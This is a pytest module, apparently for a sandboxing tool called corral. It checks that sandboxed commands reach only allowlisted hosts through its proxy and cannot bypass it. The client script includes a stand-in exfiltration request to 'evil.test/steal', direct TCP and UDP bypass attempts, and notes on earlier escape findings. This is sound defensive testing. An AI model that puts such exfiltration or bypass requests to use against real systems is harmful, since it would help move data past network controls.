"""Network by allowlist, through real bwrap: a sandboxed command reaches the allowed host through
corral's proxy, gets a refusal naming the setting for any other, and has no way around the proxy.

The upstream server listens on the host's loopback in the test process, and is reached by the
name `localhost`, allowed private addresses as a mirror on the user's own network would be.
What it received is checked after corral exited.
"""

from __future__ import annotations

import os
import socket
import threading
from pathlib import Path
from typing import Any

import pytest

from .sandbox_support import DONE, q

pytestmark = pytest.mark.sandbox

CLIENT = r"""
import os, socket, sys, urllib.error, urllib.request
port = int(sys.argv[1])
for name in ("NO_PROXY", "no_proxy"):  # localhost is the sandbox's own, by default
    os.environ.pop(name, None)
print("PROXY", os.environ.get("HTTPS_PROXY"))
print("BODY", urllib.request.urlopen(f"http://localhost:{port}/ok", timeout=10).read().decode())
try:
    urllib.request.urlopen("http://evil.test/steal", timeout=10)
except urllib.error.HTTPError as e:
    print("REFUSED", e.code, e.read().decode().strip())
# SOCKS5 (RFC 1928) to where ALL_PROXY points, CONNECT by name
proxy = os.environ["ALL_PROXY"].rpartition("/")[2].split(":")
s = socket.create_connection((proxy[0], int(proxy[1])), timeout=10)
s.sendall(b"\x05\x01\x00")
assert s.recv(2) == b"\x05\x00"
s.sendall(b"\x05\x01\x00\x03\x09localhost" + port.to_bytes(2, "big"))
reply = s.recv(10)
s.sendall(b"GET /socks HTTP/1.1\r\nHost: localhost\r\n\r\n")
print("SOCKS", reply[1], s.recv(100).split(b"\r\n\r\n")[-1].decode())
try:
    socket.create_connection(("127.0.0.1", port), timeout=3).sendall(b"GET /direct")
    print("DIRECT-TCP-WORKED")
except OSError as e:
    print("direct tcp refused", e)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
    print("UDP-SENT")
except OSError as e:
    print("udp refused", e)
with open("fetched.txt", "w") as f:
    f.write("written next to a fetch\n")
print("CORRAL-SCRIPT-DONE")
"""
assert DONE in CLIENT


class Upstream:
    def __init__(self) -> None:
        self.requests: list[bytes] = []
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        """Stop: shutdown() first, or the thread blocked in accept() keeps the socket
        listening (and answering) after close()."""
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                data = b""
                while b"\r\n\r\n" not in data and (chunk := conn.recv(4096)):
                    data += chunk
                self.requests.append(data)
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nUPSTREAM")


def _config(host, port: int) -> None:  # type: ignore[no-untyped-def]
    path = host.home / ".config" / "corral" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        f'[sandbox.policy]\nnetwork_allow = ["localhost:{port}"]\nnetwork_private = ["localhost"]\n'
    )


@pytest.mark.parametrize("writes", ["apply", "direct"])
def test_allowed_host_through_the_proxy_and_nothing_else(host, writes: str) -> None:  # type: ignore[no-untyped-def]
    upstream = Upstream()
    _config(host, upstream.port)
    try:
        result = host.corral(
            "run", "--writes", writes, "--", "python3", "-c", CLIENT, str(upstream.port)
        )
    finally:
        upstream.close()
    out = result.stdout
    assert DONE in out, result.stderr
    assert "PROXY http://127.0.0.1:3128" in out
    assert "BODY UPSTREAM" in out
    assert "SOCKS 0 UPSTREAM" in out
    assert "REFUSED 403" in out and "sandbox.policy.network_allow" in out
    assert "DIRECT-TCP-WORKED" not in out and "UDP-SENT" not in out
    # The host's server saw the allowed requests, for the allowed name, and nothing else.
    assert len(upstream.requests) == 2, upstream.requests
    assert upstream.requests[1].startswith(b"GET /socks ")
    head = upstream.requests[0].decode()
    assert head.startswith("GET /ok HTTP/1.1") and f"Host: localhost:{upstream.port}" in head
    assert "corral: blocked connection to evil.test:80" in result.stderr
    assert (host.ws / "fetched.txt").read_text() == "written next to a fetch\n"
    assert result.returncode == 0


def test_a_bad_entry_stops_the_run_with_its_name(host) -> None:  # type: ignore[no-untyped-def]
    result = host.corral("run", "--allow-host", "https://pypi.org", "--", "true")
    assert result.returncode != 0
    assert "sandbox.policy.network_allow" in result.stderr and "not a URL" in result.stderr


def test_a_wrapped_argv_says_it_gets_no_network(host) -> None:  # type: ignore[no-untyped-def]
    """And, r27b MEDIUM, its environment does not name a proxy nobody runs: unsandboxed,
    the host's 127.0.0.1:3128 is anyone's to listen on (a request's credentials went there)."""
    result = host.corral("wrap", "--allow-host", "pypi.org", "--", "true")
    assert "`corral wrap`'s argv has none" in result.stderr
    assert "env" in result.stdout and "PROXY" not in result.stdout.upper(), result.stdout


def test_the_unsandboxed_fallback_names_no_proxy(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from corral import config
    from corral.sandbox import policy
    from corral.sandbox.backends.registry import Registry

    layer = config.Layer("global", {"sandbox.policy.network_allow": ["pypi.org"]})
    resolved = policy.resolve(config.resolve([layer]), str(tmp_path), {"PATH": "/usr/bin"})
    assert dict(resolved.env)["HTTPS_PROXY"]  # what the sandbox would get, with the proxy
    wrapped = Registry().wrap(resolved, ["true"])  # no backend: "auto" runs it on the host
    assert not wrapped.sandboxed
    assert not [name for name, _ in wrapped.env if "PROXY" in name.upper()], wrapped.env
    # r28b: nor a backend that runs no proxy (one registered from Lua)
    from corral.sandbox.backends.base import Backend, Wrapped

    class Plain(Backend):
        name, priority = "plain", 1

        def available(self, policy):  # type: ignore[no-untyped-def]
            return None

        def wrap(self, policy, argv, *, launcher_fds=False):  # type: ignore[no-untyped-def]
            return Wrapped(["plain", *argv], policy.env, self.name, True)

    registry = Registry()
    registry.register(Plain())
    wrapped = registry.wrap(resolved, ["true"], proxied=True)
    assert wrapped.sandboxed and "no network: this backend runs no proxy" in wrapped.notes
    assert not [name for name, _ in wrapped.env if "PROXY" in name.upper()], wrapped.env


def test_the_fetch_tool_obeys_the_same_list(host, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    """One list for the shell and the fetch tool: with the network off, fetch reaches what
    network_allow lets the shell reach (on that port), and is refused the rest, naming both
    settings; before, fetch was denied outright whenever the sandbox's network was off."""
    from .conftest import user_prefix

    if user_prefix():
        pytest.skip("the engine in this process runs as root: the root pass covers it")
    from corral.service import Service

    for name in ("HOME", "XDG_STATE_HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(name, host.env[name])
    upstream = Upstream()
    svc = Service()
    svc.environ = dict(host.env)
    policy = {"network_allow": [f"localhost:{upstream.port}"], "network_private": ["localhost"]}
    layers = {"global": {"sandbox": {"policy": policy}, "tools": {"approval": "auto"}}}

    def call(method: str, url: str) -> dict:  # type: ignore[type-arg]
        request = {"layers": layers, "cwd": str(host.ws), "tool": "fetch", "input": {"url": url}}
        return svc.call(method, {**request, "dry_run": True} if method == "guard" else request)  # type: ignore[no-any-return]

    try:
        allowed = f"http://localhost:{upstream.port}/page"
        assert call("guard", allowed)["decision"] != "deny"
        result = call("op", allowed)
        assert result["ok"] and result["body"] == "UPSTREAM", result
        refused = call("op", f"http://localhost:{upstream.port + 1}/page")  # another port
        assert not refused["ok"] and "sandbox.policy.network_allow" in str(refused["refusal"])
        refused = call("op", "http://evil.test/")
        assert not refused["ok"] and refused["refusal"]["code"] == "host-not-allowed"
        # r28b FETCHPRIVATE: with fetch's own list open to the host, network_private let it
        # reach the host's private address on any port
        layers["global"]["tools"]["fetch"] = {"allow_hosts": ["*"]}
        other = call("op", f"http://localhost:{upstream.port + 1}/page")
        assert not other["ok"] and other["refusal"]["code"] == "private-address", other
        assert call("op", allowed)["ok"]
    finally:
        upstream.close()
    assert len(upstream.requests) == 2


TLS = Path(__file__).resolve().parent.parent / "data" / "tls"  # a test CA, a localhost cert

CLONE_AND_DOWNLOAD = """
unset NO_PROXY no_proxy
git -c http.sslCAInfo="$PWD/test-ca.crt" clone -q "https://localhost:$1/repo.git" /tmp/clone \\
    && cat /tmp/clone/hello.txt
PYTHONPATH="$2" python3 -m pip download -q --no-cache-dir --disable-pip-version-check \\
    --no-deps --only-binary=:all: --cert "$PWD/test-ca.crt" \\
    --index-url "https://localhost:$1/simple/" -d /tmp/dl corralprobe && ls /tmp/dl
echo CORRAL-SCRIPT-DONE
"""


def _wheel(path: Path) -> None:
    import zipfile

    info = "corralprobe-1.0.dist-info"
    with zipfile.ZipFile(path, "w") as wheel:
        wheel.writestr("corralprobe/__init__.py", "")
        wheel.writestr(
            f"{info}/METADATA", "Metadata-Version: 2.1\nName: corralprobe\nVersion: 1.0\n"
        )
        wheel.writestr(
            f"{info}/WHEEL",
            "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        wheel.writestr(f"{info}/RECORD", "")


def _https_site(www: Path) -> tuple[Any, list[str]]:
    """A static HTTPS server for `www` on the host's loopback (localhost's certificate from
    the test CA), and the paths it was asked for."""
    import ssl
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    asked: list[str] = []

    class Handler(SimpleHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            asked.append(self.path)

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=str(www)))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(TLS / "server.pem", TLS / "server.key")
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, asked


def test_git_and_pip_fetch_over_https_through_the_proxy(host) -> None:  # type: ignore[no-untyped-def]
    """The issue's check: real git and pip honour the proxy variables for HTTPS (CONNECT,
    TLS end to end with a test CA), reaching the allowed host and nothing else. pip is the
    test's own, run by the sandbox's python3 (the venv's interpreter may lie in a home the
    sandbox hides)."""
    import subprocess

    import pip

    site = str(Path(pip.__file__).resolve().parent.parent)

    www = host.base / "www"  # (the server, in this process, reads it)
    src = host.base / "src"
    src.mkdir()
    (src / "hello.txt").write_text("hello through corral's proxy\n")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"]
    for args in (["init", "-q"], ["add", "."], ["commit", "-qm", "x"]):
        subprocess.run([*git, *args], cwd=src, check=True)
    subprocess.run([*git, "clone", "-q", "--bare", str(src), str(www / "repo.git")], check=True)
    subprocess.run(["git", "update-server-info"], cwd=www / "repo.git", check=True)  # dumb HTTP
    (www / "files").mkdir()
    _wheel(www / "files" / "corralprobe-1.0-py3-none-any.whl")
    (www / "simple" / "corralprobe").mkdir(parents=True)
    (www / "simple" / "corralprobe" / "index.html").write_text(
        '<a href="../../files/corralprobe-1.0-py3-none-any.whl">'
        "corralprobe-1.0-py3-none-any.whl</a>\n"
    )
    server, asked = _https_site(www)
    port = server.server_address[1]
    (host.ws / "test-ca.crt").write_text((TLS / "ca.pem").read_text())
    _config(host, port)
    try:
        result = host.corral(
            "run", "--", "sh", "-c", CLONE_AND_DOWNLOAD, "sh", str(port), site,
            timeout=120,
        )  # fmt: skip
    finally:
        server.shutdown()
    assert DONE in result.stdout, result.stdout + result.stderr
    assert "hello through corral's proxy" in result.stdout, result.stdout + result.stderr
    assert "corralprobe-1.0-py3-none-any.whl" in result.stdout, result.stdout + result.stderr
    assert any(p.startswith("/repo.git/") for p in asked), asked
    assert "/files/corralprobe-1.0-py3-none-any.whl" in asked, asked
    assert "blocked" not in result.stderr, result.stderr


def test_no_sandbox_reaches_the_hubs_pipes(host) -> None:  # type: ignore[no-untyped-def]
    """r29b TMPSTEAL: with the workspace at /tmp (read-only mode), a sandbox saw the host's
    /tmp, where the hub's FIFOs were, and wrote a forged pid into another job's. The hub's
    pipes are now reached only as /proc/<host process>/fd/<n>; a sandbox's /proc is its own."""
    from corral.net import hub

    info, block, _token = hub.fifo_pair()
    try:
        probe = f'for p in {q(info)} {q(block)}; do [ -e "$p" ] && echo SEEN $p; done; true'
        for cwd in ("/tmp", "/"):
            result = host.corral(
                "run", "--mode", "read-only", "--cwd", cwd, "--", "sh", "-c", probe
            )
            assert "SEEN" not in result.stdout, result.stdout + result.stderr
            assert result.returncode == 0, result.stderr
    finally:
        for fd in hub._PENDING.pop(info)[1]:
            os.close(fd)
